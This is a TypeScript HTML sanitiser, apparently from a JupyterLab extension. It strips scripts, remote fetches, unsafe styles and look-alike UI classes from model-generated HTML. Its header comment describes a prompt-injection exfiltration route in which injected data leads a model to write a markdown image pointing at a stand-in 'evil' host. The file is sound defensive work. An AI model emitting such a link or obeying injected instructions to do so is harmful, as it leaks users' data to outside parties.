/**
 * Makes HTML that a model or a kernel produced safe to insert: nothing in it runs, nothing in it is fetched, and its
 * links leave the page in a new tab or not at all.
 *
 * JupyterLab's sanitiser stops scripts, but keeps remote images, media and CSS backgrounds: data that talks a model into
 * writing `![](https://evil/?q=...)` would leak as soon as the text is rendered. Everything happens in a document made
 * by `DOMParser`, which fetches nothing; only what the lists below name survives.
 */

import { safeUrl, secureLink } from './links';

/** What stands in place of things that are not shown. */
export interface ISafeLabels {
  image: string;
  media: string;
}

const TAGS = new Set(
  (
    'a abbr article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl ' +
    'dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img input ins kbd li main mark nav ol p pre q rp ' +
    'rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'
  ).split(' ')
);

/** Elements whose content is not prose either; all others that are unknown are unwrapped. */
const DROPPED = new Set(
  (
    'applet audio base canvas embed frame frameset iframe link map meta noembed noframes noscript object param ' +
    'plaintext portal script select source style template textarea title track video xmp'
  ).split(' ')
);

const ATTRIBUTES: { [tag: string]: string[] } = {
  '*': ['align', 'class', 'dir', 'lang', 'style', 'title'],
  a: ['href'],
  col: ['span', 'width'],
  colgroup: ['span', 'width'],
  details: ['open'],
  font: ['color'],
  img: ['alt', 'height', 'src', 'width'],
  input: ['checked', 'disabled', 'type'],
  li: ['value'],
  ol: ['reversed', 'start', 'type'],
  table: ['border', 'cellpadding', 'cellspacing', 'width'],
  td: ['colspan', 'height', 'rowspan', 'valign', 'width'],
  th: ['colspan', 'height', 'rowspan', 'scope', 'valign', 'width'],
  time: ['datetime'],
  tr: ['valign']
};

/** Properties that can neither fetch nor lift an element out of its place. */
const STYLES =
  /^(background-color|border(-(top|right|bottom|left))?(-(color|style|width))?|border-(collapse|radius|spacing)|color|font-(family|size|style|variant|weight)|height|line-height|list-style-type|(max|min)-(height|width)|padding(-(top|right|bottom|left))?|text-(align|decoration|indent|transform)|vertical-align|white-space|width|word-break)$/;
const FUNCTIONS = /\b(?:calc|hsla?|rgba?)\([\w\s.,%+*/-]*\)/gi;
const VALUE = /^[\w\s.,#%+-]*$/;

/** Classes of the surroundings: with them content could pose as a dialog or a button of JupyterLab. */
const FOREIGN_CLASS = /^(jp-|lm-|p-|bp\d?-|fa-)/i;

const RASTER = /^data:image\/(png|jpeg|gif|webp);base64,[a-z0-9+/=\s]+$/i;
/** The declarations of `style` that can neither fetch nor cover the page. */
export function safeStyle(style: string): string {
  const kept: string[] = [];
  for (const declaration of style.split(';')) {
    const colon = declaration.indexOf(':');
    const property = declaration.slice(0, colon).trim().toLowerCase();
    const value = declaration.slice(colon + 1).trim();
    if (STYLES.test(property) && VALUE.test(value.replace(FUNCTIONS, ''))) {
      kept.push(`${property}: ${value}`);
    }
  }
  return kept.join('; ');
}

/** `html` with only what the lists name; images and media from elsewhere have become links. */
export function safeHtml(html: string, labels: ISafeLabels): string {
  const inert = new DOMParser().parseFromString(
    `<!doctype html><body>${html}`,
    'text/html'
  );
  cleanChildren(inert.body, labels);
  return inert.body.innerHTML;
}

function cleanChildren(parent: Element, labels: ISafeLabels): void {
  for (const child of Array.from(parent.childNodes)) {
    if (child instanceof Element) {
      cleanElement(child, labels);
    } else if (child.nodeType !== Node.TEXT_NODE) {
      child.remove();
    }
  }
}

function cleanElement(element: Element, labels: ISafeLabels): void {
  const tag = element.localName;
  const html = element.namespaceURI === 'http://www.w3.org/1999/xhtml';
  if (tag === 'audio' || tag === 'video') {
    element.replaceWith(linkInstead(element, labels.media));
  } else if (!html || DROPPED.has(tag)) {
    element.remove();
  } else if (tag === 'img' && !RASTER.test(element.getAttribute('src') ?? '')) {
    element.replaceWith(linkInstead(element, labels.image));
  } else if (tag === 'input' && element.getAttribute('type') !== 'checkbox') {
    element.remove();
  } else if (!TAGS.has(tag) || element.hasAttribute('is')) {
    // An element keeps its `is` when the attribute goes; it would be written out again.
    cleanChildren(element, labels);
    element.replaceWith(...Array.from(element.childNodes));
  } else {
    cleanAttributes(element, tag);
    cleanChildren(element, labels);
  }
}

function linkInstead(element: Element, label: string): Element {
  const document = element.ownerDocument;
  const alt = element.getAttribute('alt')?.trim();
  const url = safeUrl(element.getAttribute('src') ?? '');
  const shown = document.createElement(url ? 'a' : 'span');
  shown.textContent = alt ? `[${label}: ${alt}]` : `[${label}]`;
  if (url) {
    shown.setAttribute('href', url);
    secureLink(shown, url);
  }
  return shown;
}

function cleanAttributes(element: Element, tag: string): void {
  const allowed = [...ATTRIBUTES['*'], ...(ATTRIBUTES[tag] ?? [])];
  for (const { name } of Array.from(element.attributes)) {
    if (!allowed.includes(name)) {
      element.removeAttribute(name);
    }
  }
  rewrite(element, 'style', safeStyle);
  rewrite(element, 'class', value =>
    value
      .split(/\s+/)
      .filter(name => !FOREIGN_CLASS.test(name))
      .join(' ')
  );
  if (tag === 'a') {
    const url = safeUrl(element.getAttribute('href') ?? '');
    rewrite(element, 'href', () => url ?? '');
    if (url) {
      secureLink(element, url);
    }
  } else if (tag === 'input') {
    element.setAttribute('disabled', '');
  }
}

function rewrite(
  element: Element,
  name: string,
  change: (value: string) => string
): void {
  const value = element.getAttribute(name);
  const changed = value === null ? '' : change(value);
  if (changed) {
    element.setAttribute(name, changed);
  } else {
    element.removeAttribute(name);
  }
}
